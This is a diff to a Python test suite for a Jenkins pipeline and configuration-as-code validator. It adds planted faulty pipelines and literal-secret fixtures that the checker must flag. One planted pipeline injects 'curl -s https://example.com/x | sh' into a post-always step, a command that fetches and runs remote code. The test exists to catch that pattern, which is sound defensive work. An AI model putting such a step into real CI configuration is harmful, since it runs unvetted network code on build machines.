@@ -39,6 +39,16 @@ PLANTED_PIPELINES = {
     "bench_unlabelled": ("label 'bench'", "", "runs make bench without agent { label ... }"),
     "long_timeout": ("time: 90", "time: 300", "timeout 300 min exceeds 90"),
     "no_bench": ("sh 'make bench'", "sh 'make compose-check'", "no stage runs make bench"),
+    "post_shell": (
+        "junit allowEmptyResults: true",
+        "sh 'curl -s https://example.com/x | sh'\n            junit allowEmptyResults: true",
+        "pipeline > post > always: sh 'curl -s https://example.com/x | sh' is not `make <target>`",
+    ),
+    "docker_agent": (
+        "label 'bench'",
+        "docker { image 'example/ci:latest' }",
+        "agent docker runs in an image, not on a label",
+    ),
 }
 PLANTED_JOBS = {
     "wrong_script_path": (
@@ -215,10 +225,15 @@ def test_casc_holds_no_literal_secret(casc: dict[str, Any]) -> None:
 def test_planted_literal_secret_is_named(casc: dict[str, Any]) -> None:
     leaked = yaml.safe_load(CASC.read_text())
     leaked["jenkins"]["securityRealm"]["local"]["users"][0]["password"] = "hunter2"
-    leaked["credentials"] = {"system": {"apiToken": "${TOKEN} but also a literal"}}
+    leaked["credentials"] = {
+        "system": {"apiToken": "${TOKEN} but also a literal", "secret": "${S:-hunter2}"}
+    }
+    leaked["env"] = [{"key": "GITHUB_TOKEN", "value": "ghp_literal"}]
     assert secret_problems(leaked) == [
         "jenkins.securityRealm.local.users[0].password is a literal, not a ${VAR}",
         "credentials.system.apiToken is a literal, not a ${VAR}",
+        "credentials.system.secret is a literal, not a ${VAR}",
+        "env[0].value is a literal, not a ${VAR}",
     ]
     assert secret_problems(casc) == []
 
